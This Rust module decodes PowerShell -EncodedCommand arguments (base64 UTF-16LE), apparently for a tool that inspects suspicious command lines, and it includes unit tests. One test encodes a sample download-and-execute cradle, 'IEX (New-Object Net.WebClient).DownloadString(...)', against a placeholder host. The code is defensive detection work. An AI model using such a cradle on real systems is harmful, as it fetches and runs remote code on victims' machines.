//! PowerShell `-EncodedCommand`: base64 of UTF-16LE text.

use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
use base64::engine::DecodePaddingMode;
use base64::Engine;

/// Standard alphabet, padding optional (attackers drop it).
const B64: GeneralPurpose = GeneralPurpose::new(
    &base64::alphabet::STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// Arguments larger than this are not decoded.
const MAX_ENCODED: usize = 1 << 20;

/// Is `token` (an option) PowerShell's `-EncodedCommand` in one of its
/// accepted spellings: `-e`, `-ec`, `-en` ... `-encodedcommand`?
fn is_encoded_option(token: &str) -> bool {
    let Some(name) = token.strip_prefix(['-', '/']) else {
        return false;
    };
    let name = name.to_ascii_lowercase();
    name == "e" || name == "ec" || (name.len() >= 2 && "encodedcommand".starts_with(&name))
}

/// Decodes every `-EncodedCommand` argument of a cleaned command line (case
/// kept, tokens separated by single spaces).
pub(super) fn encoded_commands(cleaned: &str) -> Option<String> {
    let tokens: Vec<&str> = cleaned.split(' ').collect();
    let mut out: Vec<String> = Vec::new();
    for pair in tokens.windows(2) {
        if !is_encoded_option(pair[0]) {
            continue;
        }
        let arg = pair[1].trim_matches(['"', '\'']);
        if arg.len() < 4 || arg.len() > MAX_ENCODED {
            continue;
        }
        if let Some(text) = decode_text(arg) {
            out.push(text);
        }
    }
    (!out.is_empty()).then(|| out.join("\n"))
}

/// Base64 of UTF-16LE text (or, failing that, of UTF-8 text), if it decodes
/// to mostly printable characters.
fn decode_text(arg: &str) -> Option<String> {
    let bytes = B64.decode(arg).ok()?;
    if bytes.len() >= 2 && bytes.len() % 2 == 0 {
        let units = bytes
            .chunks_exact(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]));
        let text: String = char::decode_utf16(units)
            .map(|r| r.unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect();
        if printable(&text) {
            return Some(text);
        }
    }
    let text = String::from_utf8(bytes).ok()?;
    printable(&text).then_some(text)
}

fn printable(text: &str) -> bool {
    let total = text.chars().count();
    if total == 0 {
        return false;
    }
    let good = text
        .chars()
        .filter(|&c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .filter(|&c| c != char::REPLACEMENT_CHARACTER)
        .count();
    good * 10 >= total * 9
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_b64(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn every_spelling_of_the_option_decodes() {
        let payload = utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
        for opt in ["-e", "-ec", "-en", "-enc", "-EncodedCommand", "/enc", "-ENCOD"] {
            let line = format!("powershell -nop {opt} {payload}");
            let d = encoded_commands(&line).unwrap_or_default();
            assert!(d.contains("DownloadString"), "{opt}: {d:?}");
        }
        assert_eq!(encoded_commands("powershell -ex bypass -file a.ps1"), None);
        assert_eq!(encoded_commands("powershell -enc !!notbase64!!"), None);
    }
}
